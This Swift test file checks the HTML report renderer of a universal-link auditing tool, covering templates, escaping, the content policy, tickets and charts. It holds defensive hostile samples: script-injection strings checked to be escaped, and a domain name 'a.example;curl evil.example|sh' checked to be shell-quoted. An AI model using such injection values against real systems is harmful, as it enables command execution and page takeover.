import Audit
import Deflate
import Digests
import Findings
import Foundation
import Runs
import Testing
import Transport

@testable import Audit
@testable import Reports

/// The page as bytes; what a browser makes of it is in `Scripts/lib/browser/check_page.py`.
@Suite struct HTMLRendererTests {
    @Test func templatesCanBeRead() throws {
        _ = try PageTemplates()
    }

    /// A page: its templates, the files and folders that set its values, and what those set that it leaves out.
    struct PageParts {
        var templates: [PageTemplates.Name]
        var sources: [String]
        var leavesOut: Set<Substring> = []
        /// What its templates can show and it has not.
        var lacks: Set<Substring> = []
    }

    private static let cardSources = [
        "DomainCard", "DomainPast+Strip", "EvidenceView", "FileView", "CertificateView", "TimingView",
    ]
    .map { "HTML/\($0).swift" }
    private static let firstScreenSources = ["EstateView", "StartView", "ChangesView", "TimelineView"]
        .map { "HTML/\($0).swift" }
    private static let siteSources = ["Site/SiteStyle.swift", "Site/SiteRow.swift", "Site/Site+Lists.swift"]

    static let pages: [PageParts] = [
        PageParts(
            templates: [.top, .row, .card, .brief, .bottom],
            sources: cardSources + firstScreenSources
                + [
                    "DomainRow", "RowKinds", "FilterView", "PageIndex", "TeamMatrix", "CertificateCalendar",
                    "GlossaryView", "HTMLRenderer",
                ].map { "HTML/\($0).swift" },
            // What the site alone says.
            leavesOut: ["causeLabel", "stepMore"]),
        PageParts(
            templates: [.case, .card],
            sources: cardSources + ["HTML/CaseView.swift", "HTML/GlossaryView.swift"],
            // What is said of a domain without script.
            leavesOut: ["note"], lacks: ["headScript"]),
        PageParts(templates: [.mail], sources: ["Mail"]),
        PageParts(
            templates: [.siteStart, .siteSearch],
            sources: firstScreenSources + ["HTML/PageIndex.swift", "Site/Site+Start.swift"] + siteSources,
            // What leads to filters and tickets, which the report alone has; and what the other lists of the site show.
            leavesOut: [
                "all", "allID", "allLabel", "allNames", "causeCode", "causeFixer", "causeSeverity",
                "change", "changeFilter", "changeKind", "changeMessage", "changeMove", "changeStyle", "changeWord",
                "calendar", "counts", "domainCount", "domainsHeading", "found", "group", "groupID", "groupTitle",
                "listClass", "matrix", "missedFilter", "moreChanges", "moreLabel", "note", "onlyHost",
                "onlyPort", "page",
                "pageNote", "pages", "rest", "rows",
                "several", "startedAtRFC", "ticket", "ticketLine", "words",
            ], lacks: ["headScript"]),
        PageParts(
            templates: [.siteList], sources: siteSources + ["HTML/GlossaryView.swift"], leavesOut: ["prefix"],
            // Another version writes the same page.
            lacks: ["headScript", "version"]),
        PageParts(
            templates: [.siteDomain, .card],
            sources: cardSources + ["Site/SiteDomainPage.swift", "Site/SiteStyle.swift"],
            leavesOut: ["note", "script"], lacks: ["headScript", "version"]),
    ]

    /// Templates, and those that they have as parts.
    private static func reached(from templates: [PageTemplates.Name]) throws -> Set<PageTemplates.Name> {
        var (templates, read) = (templates, Set<PageTemplates.Name>())
        while let name = templates.popLast() {
            guard read.insert(name).inserted else { continue }
            for part in PageTemplates.text(of: name).matches(of: /{{>([A-Za-z]+)}}/) {
                templates.append(try #require(PageTemplates.Name(rawValue: String(part.1))))
            }
        }
        return read
    }

    /// What the templates of a page name somebody sets for that page, and what is set for it they show.
    @Test(arguments: pages.indices) func pagesShowWhatIsSetAndNothingElse(_ number: Int) throws {
        let page = Self.pages[number]
        let root = URL(filePath: #filePath).deletingLastPathComponent().appending(path: "../../../Sources/Reports")
        var (shown, set): (Set<Substring>, Set<Substring>) = ([], [])
        for name in try Self.reached(from: page.templates) {
            shown.formUnion(PageTemplates.text(of: name).matches(of: /{{{?[#^]?([A-Za-z]+)}/).map(\.1))
        }
        for path in page.sources.map({ root.appending(path: $0) }) {
            let files =
                path.pathExtension == "swift"
                ? [path] : try FileManager.default.contentsOfDirectory(at: path, includingPropertiesForKeys: nil)
            for file in files where file.pathExtension == "swift" {
                let source = try String(contentsOf: file, encoding: .utf8)
                let setter = /\.(?:text|texts|block|number|flag|list|object|markup)\(\s*"([A-Za-z]+)"/
                set.formUnion(source.matches(of: setter).map(\.1))
            }
        }
        #expect(shown.subtracting(set) == page.lacks)
        #expect(set.subtracting(shown) == page.leavesOut)
    }

    @Test func everyTemplateIsOfSomePage() throws {
        let reached = try Self.pages.reduce(into: Set()) { $0.formUnion(try Self.reached(from: $1.templates)) }
        #expect(reached == Set(PageTemplates.Name.allCases))
    }

    @Test func isTheSameTwice() throws {
        let run = Estate(Estate.typical(60), hasHistory: true)
        #expect(try PageSink.page(run) == PageSink.page(run))
    }

    @Test(arguments: [
        ("<b>", "&lt;b&gt;"), ("a & b", "a &amp; b"), ("it's \"so\"", "it&#39;s &quot;so&quot;"),
        // A combining character makes one grapheme cluster with what stands before it.
        ("\"\u{301}", "&quot;&#769;"), ("<\u{301}", "&lt;&#769;"), ("'\u{FE0F}", "&#39;&#65039;"),
        ("é→日😀", "&#233;&#8594;&#26085;&#128512;"),
        ("{{name}}", "{{name}}"), ("", ""),
    ])
    func escapesEveryScalarThatMeansSomething(_ text: String, _ escaped: String) {
        // Compared as bytes: strings are equal already when they look equal.
        #expect(Array(EscapedText(text).renderText.utf8) == Array(escaped.utf8))
    }

    @Test func everyForeignTextIsEscapedOnce() throws {
        let page = try PageSink.page(Estate(HostileEstate.reports))
        for raw in [
            "<script>owned", "<img", "</script><script>owned", "<!--\"", "\u{1B}", "\u{202E}", "&amp;lt;script",
        ] {
            #expect(!page.contains(raw), "\(raw)")
        }
        #expect(page.contains("&lt;script&gt;owned=1&lt;/script&gt;"))
    }

    /// The script finds a card by how its domain stands, and by how many before it in the list stand alike.
    @Test func whatIsPackedIsTheCardsOfOneKindInInputOrder() throws {
        let reports = Estate.typical(180)
        let page = try PageSink.page(Estate(reports), HTMLRenderer(prebuilt: 0))
        var cards: [Substring: [String]] = [:]
        let chunks = page.matches(of: /<script type="text\/plain" class="chunk" data-of="([^"]*)">([^<]*)<\/script>/)
        for chunk in chunks {
            let bytes = try Inflater().expand(Array(try #require(Data(base64Encoded: String(chunk.2)))))
            let some = String(decoding: bytes, as: UTF8.self).split(separator: "\u{1E}").map(String.init)
            #expect(some.count <= 100)
            cards[chunk.1, default: []] += some
        }
        let kinds = Dictionary(grouping: reports) { "\($0.status.rawValue) \($0.opensApp.rawValue)"[...] }
        #expect(cards.mapValues(\.count) == kinds.mapValues(\.count))
        #expect(chunks.count > kinds.count)
        for (kind, reports) in kinds {
            for (card, report) in zip(cards[kind] ?? [], reports) {
                #expect(card.hasPrefix("<div class=\"card\">"))
                #expect(card.contains("href=\"#d-\(report.domain?.host ?? "entry-20")\""))
            }
        }
    }

    /// What rows are filtered by is written once for all that have it in common.
    @Test func whatRowsHaveInCommonStandsInThePageOnce() throws {
        let page = try PageSink.page(Estate(Estate.kinds + (50..<90).map(Estate.well)))
        let list = try #require(page.firstMatch(of: /<div id="kinds" hidden>(.*?)<\/div>/.dotMatchesNewlines())).1
        let kinds = list.matches(of: /<span([^>]*)><\/span>/).map(\.1)
        #expect(Set(kinds).count == kinds.count)
        let rows = page.matches(of: /<a class="row ([a-z]+)"[^>]* data-kind="(\d+)"/)
        #expect(rows.count == Estate.kinds.count + 40)
        for row in rows where row.1 == "pass" {
            let kind = kinds[try #require(Int(row.2))]
            #expect(
                kind.contains("note:detail-modern-only") || kind.contains("data-services=\"webcredentials"), "\(kind)")
        }
        #expect(Set(rows.map(\.2)).count == kinds.count)
    }

    @Test func saysWhatOfTheCertificatesIsNotShown() throws {
        var report = Estate.redirect(3)
        let leaf = try #require(report.wellKnown?.exchange?.tls?.chain.first)
        var long = leaf
        long.subjectAltNames = (0..<CertificateFacts.nameLimit).map { "n\($0).example" }
        long.subjectAltNameCount = 33_001
        report.wellKnown?.exchange?.tls?.chain = [long] + Array(repeating: leaf, count: 15)
        report.wellKnown?.exchange?.tls?.certificatesSent = 77
        let page = try PageSink.page(Estate([report]))
        #expect(page.contains("n39.example and 32961 more"))
        #expect(page.contains("and 65 more"))
    }

    @Test func policyAllowsTheStyleAndTheScriptsOfThePageAlone() throws {
        let page = try PageSink.page(Estate([Estate.redirect(3)]))
        let policy = try #require(page.firstMatch(of: /Content-Security-Policy" content="([^"]*)"/)).1
        let style = try #require(page.firstMatch(of: /(?s)<style>(.*?)<\/style>/)).1
        let scripts = page.matches(of: /(?s)<script>(.*?)<\/script>/).map(\.1)
        func hash(_ text: Substring) -> String { Data(SHA256.digest(Array(text.utf8))).base64EncodedString() }
        #expect(
            policy.replacing("&#39;", with: "'")
                == "default-src 'none'; style-src 'sha256-\(hash(style))'; script-src "
                + scripts.map { "'sha256-\(hash($0))'" }.joined(separator: " ")
                + "; base-uri 'none'; form-action 'none'")
        #expect(!page.contains(" style=\""))
        #expect(scripts.count == 2)
    }

    @Test func headlineTellsTheStateOfTheEstate() throws {
        let cases: [([DomainReport], String)] = [
            (
                [Estate.redirect(3)],
                "<bdi>travel-3.example</bdi>: links open the browser instead of the app on every Apple system."
            ),
            ([Estate.redirect(3), Estate.well(4)], "1 of 2 domains has errors."),
            ([Estate.well(4), Estate.well(5)], "None of 2 domains has errors."),
            ([Estate.well(4), Estate.nobody(57)], "None of the domains that could be checked has errors."),
            ([Estate.nonsense, Estate.nobody(57)], "None of 2 domains could be checked."),
            ([], "There was no domain to check."),
        ]
        for (reports, headline) in cases {
            let page = try PageSink.page(Estate(reports))
            #expect(page.contains("<h1 id=\"state-sentence\">\(headline)</h1>"), "\(headline)")
        }
    }

    @Test func theDomainsHaveTheNameThatTheyWereGiven() throws {
        var run = Estate([Estate.redirect(3), Estate.well(4)])
        #expect(try PageSink.page(run).contains("<title>Universal links: 1 of 2 with errors &#183; 2026-05-01</title>"))
        run.facts.options["title"] = "Acme <b>"
        let page = try PageSink.page(run)
        #expect(page.contains("<title>Acme &lt;b&gt;: 1 of 2 with errors &#183; 2026-05-01</title>"))
        #expect(page.contains("<bdi>Acme &lt;b&gt;: universal links</bdi>"))
    }

    /// What somebody accepted needs no attention, and does not open the app for that.
    @Test func theTwoQuestionsAreCountedApart() throws {
        let page = try PageSink.page(
            Estate([Estate.accepted(40), Estate.redirect(3), Estate.well(4), Estate.generic(5), Estate.nonsense]))
        #expect(page.contains("<h1 id=\"state-sentence\">1 of 5 domains has errors.</h1>"))
        #expect(page.contains("Links open the app at 1 of 5 domains (iOS 14 and later)"))
        let answers = page.matches(of: #/<a class="opens ([a-z-]+)" href="#opens=([a-z-]+)"><strong>([0-9]+)</#)
            .map { "\($0.1) \($0.2) \($0.3)" }
        #expect(answers == ["yes yes 1", "likely likely 1", "no no 2", "unknown unknown 1"])
        let rows = page.matches(of: #/<a class="row [^>]*>.*?<div class="opens ([a-z-]+)">/#).map(\.1)
        #expect(rows.sorted() == ["likely", "no", "no", "unknown", "yes"])
    }

    /// Whatever a card says of iOS 14 and later is what its row and the totals say.
    @Test(arguments: VerdictSentenceTests.cases)
    func noLegendContradictsACard(_ example: VerdictSentenceTests.Case) throws {
        let report = example.report
        let page = try PageSink.page(Estate([report, Estate.well(4)]))
        let row = page.firstMatch(of: #/id="d-example.com" [^<]*<[\s\S]*?<div class="opens ([a-z-]+)">([^<]*)</#)
        #expect(row?.1 == report.opensApp.rawValue[...])
        #expect(row?.2 == report.opensApp.word[...])
        #expect(page.contains("<a class=\"opens \(report.opensApp.rawValue)\" href=\"#opens="))
        let sentence = VerdictSentence.text(report)
        switch report.opensApp {
        case .yes: #expect(sentence.contains("inks can open"))
        case .likely: #expect(sentence.contains("likely to open"))
        case .partly: #expect(sentence.contains(", but "))
        case .no: #expect(sentence.contains("browser instead of the app") || sentence.contains(", but "))
        case .noLinks: #expect(sentence.contains("no universal links"))
        case .unknown: #expect(!sentence.contains("can open the app on iOS 14"))
        }
    }

    @Test func aCardNamesTheAppsWhereTheyDiffer() throws {
        let example = try #require(VerdictSentenceTests.cases.first { $0.apps.contains { $0.hasPrefix("*") } })
        let page = try PageSink.page(Estate([example.report]))
        #expect(page.contains("<p class=\"apps\"><bdi>com.acme.news (expected)</bdi></p>"))
        #expect(page.contains("<p class=\"apps\"><bdi>com.acme.shop</bdi></p>"))
    }

    @Test func historyAndInterruptionAreShownWhereThereAreAny() throws {
        let reports = Estate.typical(40)
        let signs = ["<h2 id=\"h-changes\">", "<svg class=\"strip\" width=\"120\"", "The run was interrupted."]
        let plain = try PageSink.page(Estate(reports))
        let rich = try PageSink.page(Estate(reports, hasHistory: true, complete: false))
        for sign in signs {
            let (isInPlain, isInRich) = (plain.contains(sign), rich.contains(sign))
            #expect(!isInPlain, "\(sign)")
            #expect(isInRich, "\(sign)")
        }
    }

    @Test func whatGotWorseComesBeforeWhatGotBetter() throws {
        var run = Estate([Estate.redirect(3)], hasHistory: true)
        let items: [(RunChanges.Change.Kind, FindingCode, Severity)] = [
            (.fixed, .redirect, .error), (.new, .tlsCertificateExpiring, .warning), (.returned, .fileEmpty, .error),
        ]
        run.changes?.items = items.map {
            RunChanges.Change(domain: "a.example", kind: $0.0, code: $0.1, severity: $0.2, message: "")
        }
        let page = try PageSink.page(run)
        let words = page.matches(of: #/<li><span class="label [a-z]+">(Fixed|New|Back)</span> /#).map(\.1)
        #expect(words == ["Back", "New", "Fixed"])
    }

    @Test func everyDomainIsInThePageOnceWhateverIsBuiltInAdvance() throws {
        for prebuilt in [0, 3, 300] {
            let page = try PageSink.page(Estate(Estate.broken(40)), HTMLRenderer(prebuilt: prebuilt))
            #expect(page.matches(of: /<a class="row fail"/).count == 40)
            #expect(page.matches(of: #/ class="(?:brief )?still">/#).count == 40)
            #expect(page.contains("class=\"chunk\"") == (prebuilt < 40))
        }
    }

    @Test(arguments: [
        (Estate.warned(33), DomainStatus.warn, "1 Warning"), (Estate.accepted(40), .accepted, "1 Accepted"),
        (Estate.redirect(3), .fail, "1 Error"), (Estate.nobody(57), .unreachable, "1 Not checked"),
    ])
    func aDomainHasOneStateInItsRowAndInTheTotals(_ report: DomainReport, _ state: DomainStatus, _ total: String) throws
    {
        let page = try PageSink.page(Estate([report, Estate.well(4)]))
        #expect(page.contains("<a class=\"row \(state.rawValue)\" id=\"d-\(report.domain?.host ?? "")\""))
        let text = page.replacing(/<[^>]*>/, with: "")
        #expect(text.contains(total))
        #expect(text.contains("1 Fine"))
    }

    @Test func whatIsAcceptedSaysWhyAndUntilWhen() throws {
        let page = try PageSink.page(Estate([Estate.accepted(40), Estate.well(4)]))
        #expect(
            page.contains(
                "<bdi>Accepted until 2026-12-31: Brand is being retired. After that day it counts again.</bdi></div>"))
    }

    @Test(arguments: [true, false])
    func aFaultInJSONShowsItsLineWithACaret(keepsBody: Bool) throws {
        let report = Estate.invalidJSON(41, keepsBody: keepsBody)
        let lines = ProofView(try #require(report.findings.first), in: report).lines
        let place = try #require(lines.firstIndex { $0.hasPrefix("6 | ") })
        let caret = try #require(lines[place + 1].firstIndex(of: "^"))
        let column = lines[place + 1].distance(from: lines[place + 1].startIndex, to: caret)
        #expect(Array(lines[place])[column] == ",")
        #expect(lines.count == (keepsBody ? 6 : 2))
    }

    @Test(arguments: [Int.min, -1, 0, 1, 12, 13, 1_000_000, Int.max])
    func anyLineThatAStoredReportNamesCanBeRendered(line: Int) throws {
        var report = Estate.brokenFile(11)
        for index in report.findings.indices { report.findings[index].line = line }
        #expect(try PageSink.page(Estate([report])).contains("d-pay-11.example"))
    }

    @Test func sinceWhenIsTheDayUnlessItBeganWithThisRun() {
        #expect(DomainCard.since(Samples.now, Samples.now) == "since this run")
        #expect(
            DomainCard.since(Samples.now.addingTimeInterval(-40), Samples.now)?.hasPrefix("since 2026-05-01 (") == true)
        #expect(DomainCard.since(Samples.days(-12), Samples.now) == "since 2026-04-19 (12 days)")
    }

    @Test func theSameDomainTwiceHasTwoAnchors() throws {
        let page = try PageSink.page(Estate([Estate.redirect(3), Estate.redirect(3)]))
        #expect(page.contains("id=\"d-travel-3.example\""))
        #expect(page.contains("id=\"d-travel-3.example-2\""))
    }

    @Test func ticketStandsForItself() {
        let text = TicketText(Estate.redirect(3), past: nil, runAt: Samples.now).lines.joined(separator: "\n")
        #expect(text.hasPrefix("travel-3.example: links open the browser instead of the app on every Apple system\n"))
        for part in [
            "[redirect]", "Impact: ", "What to do: ", "On nginx:", "   Owner: Ada Lovelace",
            "The work is for whoever configures the web server or the CDN in front of it.",
            "After the repair: Run “aasa-audit travel-3.example” again", "root /var/www/travel-3.example;",
            "curl -sS -i 'https://travel-3.example/.well-known/apple-app-site-association'",
            "return 301 https://www.travel-3.example$request_uri;",
        ] {
            #expect(text.contains(part), "\(part)")
        }
    }

    @Test func nightsAreShownAsColumnsAndAsATable() throws {
        let page = try PageSink.page(Estate(Estate.typical(60), hasHistory: true))
        #expect(page.contains("<h2 id=\"h-nights\">90 nights</h2>"))
        #expect(page.contains("<span>2026-02-01</span> <span>2026-05-01</span>"))
        #expect(page.matches(of: #/<tr><th scope="row">2026-\d\d-\d\d<\/th>/#).count == 90)
        #expect(page.contains("errors in "))
        for run in [Estate(Estate.typical(60)), Estate([Estate.redirect(3)], hasHistory: true), Estate([])] {
            let isThere = try PageSink.page(run).contains("id=\"nights\"")
            #expect(!isThere)
        }
    }

    @Test func columnsAreAsHighAsTheCountsAndSeenHoweverFew() throws {
        var run = Estate(Estate.many(1000), hasHistory: true)
        var summary = RunSummary()
        for number in 0..<1000 { summary.add(Estate.well(number)) }
        summary.add(Estate.redirect(3))
        run.nights = [OverallTimeline.Night(id: "2", startedAt: Samples.days(-1), summary: summary)]
        // Two columns are no course of things: the words say it.
        let short = try PageSink.page(run)
        #expect(short.contains("id=\"nights\"") && !short.contains("<svg class=\"nights\""))
        run.nights = [2, 1].map { OverallTimeline.Night(id: "\($0)", startedAt: Samples.days(-$0), summary: summary) }
        let page = try PageSink.page(run)
        let path = try #require(page.firstMatch(of: #/<path class="fail" d="([^"]*)"/#)).1
        // 1 of 1001 and 143 of 1000, of 56 pixels; columns as wide as they may be.
        #expect(path == "M0 55h23v1h-23zM24 55h23v1h-23zM48 48h23v8h-23z")
    }

    @Test(arguments: [(1, false), (2, true)])
    func nightsAreAStripWhereThereAreSeveral(_ count: Int, _ isShown: Bool) {
        let runs = (0..<count).map { DomainPast.Run(startedAt: Samples.days(Double(-$0)), status: .fail) }
        let row = DomainRow(
            report: Estate.redirect(3), past: DomainPast(statusSince: nil, runs: runs), anchor: "d-a", index: 0, kind: 0
        )
        #expect(row.object().entries.contains { $0.key == "past" } == isShown)
    }

    @Test(arguments: [
        (-30, "expired 29 d ago"), (-2, "expired 1 d ago"), (-1, "expired"), (0, "in 0 d"), (9, "in 9 d"),
    ])
    func whatHasEndedIsCalledExpired(_ days: Int, _ words: String) {
        #expect(DomainRow.ends(days) == words)
    }

    /// Teams are compared with each other: one error is as high wherever it is.
    @Test func teamsHaveOneScaleAndNoneForAFewNights() throws {
        let reports = (0..<6).map { number in
            var report = Estate.redirect(number * 10 + 3)
            report.team = number < 4 ? "Large" : number == 4 ? "Small" : "Well"
            return number == 5 ? Estate.well(4) : report
        }
        func run(nights: Int) -> Estate {
            var run = Estate(reports, hasHistory: true)
            run.nights = (1..<nights).reversed().map {
                OverallTimeline.Night(id: "\($0)", startedAt: Samples.days(Double(-$0)), summary: run.summary)
            }
            return run
        }
        let short = try PageSink.page(run(nights: 6))
        #expect(
            short.contains("id=\"teams\"") && !short.contains("class=\"spark\"") && !short.contains("Errors each night")
        )
        let page = try PageSink.page(run(nights: 8))
        let today = page.matches(of: #/<svg class="spark" width="40"[^>]*><path d="[^"]*M37 14v-(\d+)"/#).compactMap {
            Int($0.1)
        }
        #expect(today == [14, 3])
    }

    /// An age would be how long it has been known, not how long it has been there.
    @Test(arguments: [
        (0.0, true, "in this run"), (0, false, "2026-05-01 or earlier"), (-1, true, "2026-04-30"),
        (-2, false, "2026-04-29 or earlier"),
    ])
    func teamsSayWhenErrorsWereFirstSeen(_ days: Double, _ isKnown: Bool, _ words: String) {
        let date = Samples.now.addingTimeInterval(days * 86_400)
        #expect(TeamMatrix.firstSeen(date, isKnown: isKnown, runAt: Samples.now) == words)
    }

    @Test func oneRepairHasOneTicketForAllItsDomains() throws {
        let page = try PageSink.page(Estate(Estate.typical(300)))
        let names = try #require(page.firstMatch(of: #/id="repair-1" [^>]*data-names="([^"]*)">all (\d+)</#))
        #expect(names.1.split(separator: "\n").count == Int(names.2))
        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
        for name in names.1.split(separator: "\n") { #expect(ticket.contains("- \(name)&#10;")) }
        #expect(ticket.contains("Who can fix it: ") && ticket.contains("What to do, at "))
        let all = names.1.split(separator: "\n").joined(separator: " ")
        let code = try #require(ticket.firstMatch(of: #/\[([a-z-]+)\]/#)).1
        let proof = "Fixed when: a new run finds \(code) at none of the \(names.2) domains"
        #expect(ticket.contains("\(proof): &#8220;aasa-audit \(all)&#8221;."), "\(ticket)")
        let many = try PageSink.page(Estate(Estate.typical(600)))
        #expect(
            many.contains(
                #/Fixed when: a new run finds [a-z-]+ at none of the 20 domains; for a first look: &#8220;aasa-audit /#)
        )
    }

    /// A certificate that ends soon is no error: that there is none does not show that it was renewed.
    @Test func aTicketIsNotFixedBeforeAnythingWasDone() throws {
        let page = try PageSink.page(Estate((0..<3).map { Estate.warned($0) }))
        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
        #expect(
            ticket.contains("Fixed when: a new run finds tls-certificate-expiring at none of the 3 domains: &#8220;"),
            "\(ticket)")
    }

    /// A stored report can name a domain in any way, and the brackets of an address mean something to a shell.
    @Test(arguments: [
        (DomainID(host: "2001:db8::1", port: 8443), "'[2001:db8::1]:8443'"), (DomainID(host: "a.example"), "a.example"),
        (
            DomainID(host: "a.example", displayHost: "a.example;curl evil.example|sh"),
            "'a.example;curl evil.example|sh'"
        ),
        (DomainID(host: "a.example", displayHost: "$(it's)"), #"'$(it'\''s)'"#),
    ])
    func aNameIsOneWordOfACommand(_ domain: DomainID, _ word: String) throws {
        let reports = (0..<12).map { number in
            var report = Estate.warned(number)
            if number == 0 { report.domain = domain }
            return report
        }
        #expect(RepairAdvice.check(reports[0]).hasPrefix("Run “aasa-audit \(word)” again: "))
        for count in [2, 12] {
            let page = try PageSink.page(Estate(Array(reports.prefix(count))))
            let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#))
                .1
            #expect(ticket.contains("&#8220;aasa-audit \(EscapedText.escape(word)) "), "\(ticket)")
        }
    }

    /// A link shows the domains whose names are kept, and says how many those are.
    @Test(arguments: [(4, "all 4"), (DomainNames.limit, "all 1000"), (DomainNames.limit + 1, "the first 1000 of 1001")])
    func aLinkSaysHowManyItShows(_ count: Int, _ label: String) throws {
        var names = DomainNames()
        for number in 0..<count { names.add("d\(number).example") }
        let object = TemplateObject { PageIndex(Estate([])).members(&$0, names, id: "repair-1", shown: 2) }
        let text = try PageTemplates().render(.members, object)
        let link = try #require(text.firstMatch(of: #/data-names="([^"]*)">([^<]*)</#))
        #expect(link.2 == label[...])
        #expect(link.1.split(separator: "\n").count == min(count, DomainNames.limit))
    }

    /// Teams are counted however many there are, and so is what has none.
    @Test func noTeamIsLeftOutOfTheCount() throws {
        let reports = (0...1002).map { number in
            var report = Estate.well(number)
            report.team = number > 1000 ? nil : "Team \(number)"
            return report
        }
        let page = try PageSink.page(Estate(reports))
        #expect(page.contains("<h2>Teams</h2> <span class=\"note\">1001 teams</span>"))
        #expect(page.contains("<bdi>(no team)</bdi></th><td>2</td>"))
        #expect(page.contains("<p class=\"note\">and 952 more</p>"))
    }

    /// Whatever ends within the 60 days that the heading says is counted, the last of them, too.
    @Test(arguments: [(59, 1), (60, 1), (61, 0)]) func theLastDayOfTheCalendarCounts(_ days: Int, _ count: Int) throws {
        var report = Estate.well(3)
        report.wellKnown?.exchange?.tls?.chain[0].notAfter = Samples.days(Double(days))
        try #require(report.certificateDaysLeft == days)
        let page = try PageSink.page(Estate([report, Estate.nonsense]))
        #expect(page.matches(of: #/<a href="#ends=0..60"><b>1<\/b> within 60 days</#).count == count)
        #expect(page.contains("<option value=\"0..60\">within 60 days (1)</option>") == (count == 1))
    }

    /// The numbers of the first screen have the names of the filters that they lead to.
    @Test func oneFilterHasOneName() throws {
        let page = try PageSink.page(Estate(Estate.kinds, hasHistory: true))
        let links = page.matches(of: #/href="#(?:team=[^&"]*&amp;)?(ends|change)=([^"]+)"/#).map {
            (key: $0.1, value: $0.2)
        }
        #expect(links.contains { $0.value == "new,returned" } && links.contains { $0.value == "..14" })
        for (key, value) in links {
            let control = try #require(page.firstMatch(of: try Regex("<select id=\"f-\(key)\">.*?</select>")))
            #expect(page[control.range].contains("<option value=\"\(value)\">"), "\(key)=\(value)")
        }
        let ends = page.matches(of: #/href="#ends=([^"]+)"><b>([^<]+)<\/b> ([^<]+)</#)
        #expect(!ends.isEmpty)
        for link in ends {
            #expect(page.contains("<option value=\"\(link.1)\">\(link.3) (\(link.2))</option>"), "\(link.0)")
        }
    }

    /// Without script a link to all that could not be checked leads to the first of them.
    @Test func allThatWasNotCheckedCanBeReachedWithoutScript() throws {
        let page = try PageSink.page(Estate([Estate.nonsense] + (0..<5).map(Estate.nobody)))
        #expect(page.contains("<a href=\"#status=unreachable,invalid\">All 6</a>"))
        #expect(page.contains("<span id=\"status=unreachable,invalid\"></span>"))
    }

    @Test(arguments: [([Estate.redirect(3)], false), ([Estate.redirect(3), Estate.brokenFile(11)], true)])
    func onlySeveralStepsHaveAnOrder(_ broken: [DomainReport], _ isSaid: Bool) throws {
        let page = try PageSink.page(Estate(broken + [Estate.well(4)]))
        #expect(page.contains("Start here</h2> <span class=\"note\">") == isSaid)
        #expect(page.contains("Start here</h2>"))
    }

    /// What opens to the other repairs says their number, and what it opens to does not say it again.
    @Test func theOtherRepairsAreCountedOnce() throws {
        let page = try PageSink.page(Estate(Estate.kinds))
        let rest = try #require(
            page.firstMatch(of: #/<details class="rest"><summary>(.*?)<\/summary><bdi>(.*?)<\/bdi>/#))
        #expect(rest.1.contains(#/^Then, \d+ more repairs?$/#), "\(rest.1)")
        #expect(!rest.2.contains("repair"), "\(rest.2)")
    }

    /// The night before is not the run before where that was a run of the same day.
    @Test(arguments: [(-86_400.0, true), (-3600, false)])
    func whatMovedIsSaidOfTheRunBefore(_ seconds: Double, _ isSaid: Bool) throws {
        var run = Estate([Estate.redirect(7), Estate.well(4)], hasHistory: true)
        let past = try #require(run.past(of: Estate.redirect(7))?.runs.suffix(2).map(\.status))
        try #require(past == [.pass, .fail])
        run.changes?.previousStartedAt = Samples.now.addingTimeInterval(seconds)
        #expect(try PageSink.page(run).contains("<span class=\"note\">Fine &#8594; Error</span>") == isSaid)
    }

    @Test func whatIsFilteredByNightsSpeaksOfNights() throws {
        let page = try PageSink.page(Estate(Estate.kinds, hasHistory: true))
        #expect(page.contains("<option value=\"1\">in the last night</option>"))
    }

    /// Who can fix it is said alike in lists, tickets and on the domain: a file that is too large is its author's work.
    @Test func namesWhoCanFixThisKindOfFinding() throws {
        let reports = (0..<2).map { number in
            var report = Estate.brokenFile(number)
            report.findings = [Finding(.fileOversized, location: .wellKnown, message: "Too large.")]
            (report.owner, report.team, report.contact) = ("Dana", nil, nil)
            return report
        }
        let page = try PageSink.page(Estate(reports))
        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
        #expect(ticket.contains("Who can fix it: Whoever writes the association file"), "\(ticket)")
        #expect(!page.contains("Whoever configures the web server or the CDN in front of it"))
    }

    @Test(arguments: [
        ("shop.example", "shop.example", ""), ("shop.example:8443", "shop.example", ":8443"),
        ("שלום.example:8443", "שלום.example", ":8443"), ("2001:db8::1", "2001:db8::1", ""),
        ("[2001:db8::1]:8443", "[2001:db8::1]", ":8443"), ("https://?/", "https://?/", ""), ("a:b", "a:b", ""),
        ("a:", "a:", ""), (":1", ":1", ""), ("a:123456", "a:123456", ""),
    ])
    func aNameIsAHostAndAPort(_ name: String, _ host: String, _ port: String) {
        let parts = DomainReport.nameParts(name)
        #expect(parts.host == host)
        #expect(parts.port == port)
    }

    /// `Scripts/test` opens these pages in Chromium: see `Scripts/lib/browser/check_page.py`.
    @Test func pagesAreCompleteAndLeftForABrowser() throws {
        let few = Estate.typical(60)
        let pages: [(name: String, run: any StoredRun, renderer: HTMLRenderer)] = [
            ("kinds", Estate(Estate.kinds, hasHistory: true), HTMLRenderer()),
            ("small", Estate(few, hasHistory: true), HTMLRenderer(prebuilt: 2)),
            ("whole", Estate(few, hasHistory: true), HTMLRenderer()),
            ("ten", Estate(Array(Estate.kinds.prefix(10)), hasHistory: true), HTMLRenderer()),
            ("many", Estate(Estate.many(420), hasHistory: true), HTMLRenderer(prebuilt: 2)),
            ("hostile", Estate(HostileEstate.reports, hasHistory: true, complete: false), HTMLRenderer(prebuilt: 2)),
        ]
        for (name, run, renderer) in pages + BadDay.all.map({ ("bad-\($0.name)", $0.run, HTMLRenderer()) }) {
            let page = try PageSink.page(run, renderer)
            #expect(page.hasSuffix("</html>\n"), "\(name)")
            // Whatever character set a server says it has.
            #expect(page.utf8.allSatisfy { $0 < 0x80 }, "\(name)")
            guard let folder = ProcessInfo.processInfo.environment["TEST_PAGES_FOLDER"] else { continue }
            try Data(page.utf8).write(to: URL(filePath: folder).appending(path: "\(name).html"))
        }
    }
}
